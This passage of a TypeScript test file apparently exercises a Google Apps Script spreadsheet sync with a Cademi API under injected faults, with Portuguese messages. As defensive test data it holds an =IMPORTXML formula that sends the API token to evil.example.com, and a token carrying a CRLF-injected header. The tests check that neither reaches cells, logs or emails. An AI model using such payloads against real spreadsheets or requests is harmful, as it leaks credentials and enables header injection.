        const body = JSON.parse(response.body);
        gen.emptyListing(body);
        return { ...response, body: JSON.stringify(body) };
      },
    }),
    [0],
  );

  // Class 5: error bodies that echo the token and carry a formula never reach a cell; the week completes without
  // what they refused (v1: the pair; v3: every product of the student, one call answering for all).
  const echoedErrors: Scenario = {
    fault: 'corpo de erro com o token e uma fórmula',
    api,
    expected: 'Concluída',
    run: () =>
      offsets('echoedErrors').map((offset) => {
        const refused: string[] = [];
        const echo = bursts({ first: offset, period: 40, length: 1, max: 6 }, (index) =>
          gen.error(index % 2 === 0 ? 404 : 409, `=IMPORTXML("https://evil.example.com/?t=${token}";"//a") Authorization: ${token}`),
        );
        const gas = newEnv(api, {
          fault: (request, now) => {
            if (!gen.isProgress(request)) return undefined;
            const answer = echo(request, now);
            // A 404/409 on a progress call is final: what it asked for rightly has no row this week.
            const target = gen.progressTarget(request);
            if (answer && target) refused.push(...keysCostBy(api, target));
            return answer;
          },
        });
        const observer = new Observer(gas);
        runWeek(gas, 2 * DAY);
        for (const key of refused) observer.excused.add(key);
        observer.requireWhy(refused.length > 0, 'nenhum erro com o token foi respondido (cenário não armado)');
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const cells = everyCellText(gas);
        observer.requireWhy(!cells.includes(token), 'o token ecoado pelo servidor apareceu numa célula');
        observer.requireWhy(!/IMPORTXML|evil\.example/.test(cells), 'o texto do corpo de erro apareceu numa célula');
        const logged = [...gas.env.logs.lines.map((line) => line.message), ...gas.env.mail.sent.map((mail) => JSON.stringify(mail))].join('\n');
        observer.requireWhy(!logged.includes(token) && !/IMPORTXML/.test(logged), 'o token ou o corpo de erro apareceu no log ou num e-mail');
        return observer.trial('corpo de erro com o token e uma fórmula');
      }),
  };

  // Class 5: a token that is no valid header value is refused before any request, and never shown.
  const badHeaderToken: Scenario = {
    fault: 'token com quebra de linha',
    api,
    expected: 'Falhou: token inválido → Concluída',
    run: () => {
      const gas = newEnv(api, {});
      const observer = new Observer(gas);
      const evil = `${token}\r\nX-Injetado: sim`;
      gas.env.properties.document.gas().setProperty('cademi.apiToken', evil);
      runWeek(gas, 6 * HOUR);
      observer.endPhase({ logFrom: 0, label: 'token inválido', why: /token/i });
      observer.requireWhy(gas.env.urlFetch.log.length === 0, `${gas.env.urlFetch.log.length} pedido(s) enviados com o token inválido`);
      observer.requireWhy(!everyCellText(gas).includes(token), 'o token apareceu numa célula');
      const logFrom = observer.logLength();
      gas.env.properties.document.gas().setProperty('cademi.apiToken', token);
      gas.env.time.advance(30 * MINUTE);
      runWeek(gas, 6 * HOUR);
      observer.endPhase({ logFrom });
      observer.finalLoss();
      return [observer.trial('token com quebra de linha')];
    },
  };

  // Class 7: a 429 asking for hours pauses the run (logged, with when it resumes) and a later tick completes it.
  const hugeRetryAfter: Scenario = {
    fault: 'Retry-After de horas',
    api,
    expected: 'Concluída',
    run: () =>
      [3 * 3600, 26 * 3600].map((seconds) => {
        let fired = false;
        const gas = newEnv(api, {
          fault: (request) => {
            if (fired || !gen.isProgress(request)) return undefined;
            fired = true;
            return gen.error(429, 'Limite de requisições excedido', { 'retry-after': String(seconds) });
          },
        });
        const observer = new Observer(gas);
        click(gas);
        ticks(gas, 3 * DAY);
        observer.endPhase({ logFrom: 0 });
        observer.finalLoss();
        const log = readSheet(gas, SHEET.runs).slice(1);
        observer.requireWhy(
          log.some((row) => row[4] !== 'Concluída' && /espera|aguard|retoma|Retry-After/i.test(String(row[12]))),
          'Execuções não registra a pausa pedida pela Cademi',
        );
        const trial = observer.trial('Retry-After de horas');
        return { ...trial, note: [trial.note, `Retry-After ${seconds} s`].filter(Boolean).join('; ') };
      }),
  };

  return [
    http403,
    revoked,
    storms429,
    bursts5xx,
    timeouts,
    malformed,
    renamedField,
    repeatedCursor,
    otherHost,
    ...(api === 'v3' ? [foreignCursor] : []),
    killSweep,
    concurrent,
    quota,
    deadline,
    all404,
    one404,
    noStudents,
    echoedErrors,
    badHeaderToken,
    hugeRetryAfter,
  ];
}

/** Every cell of every sheet, as text (for "this never reaches a cell" checks). */
function everyCellText(gas: FaultEnv): string {
  return gas.env.runtime.quietly(() => {
    const workbook = new SpreadsheetWorkbook(gas.env.spreadsheet.gas());
    return workbook
      .sheetNames()
      .map((name) => JSON.stringify(workbook.readSheet(name) ?? []))
      .join('\n');
  });
}

/** A proxy's or web server's own 404: no Cademi envelope (a base URL missing /api/v1, a maintenance page). */
const HTML_404: HttpResponse = { status: 404, headers: { 'content-type': 'text/html' }, body: '<html><body><h1>404 Not Found</h1>nginx</body></html>' };

/** The Apps Script scenarios of both generations, v1's first. */
export const SCENARIOS: readonly Scenario[] = [...scenariosFor('v1'), ...scenariosFor('v3')];

/** A trial survives when it ends in the expected state, the log says why, no partial week was written and the token stayed home. */
export function survived(scenario: Scenario, trial: Trial): boolean {
  return trial.finalState === scenario.expected && trial.logSaysWhy && trial.historyComplete && trial.tokenLeaks === 0;
}
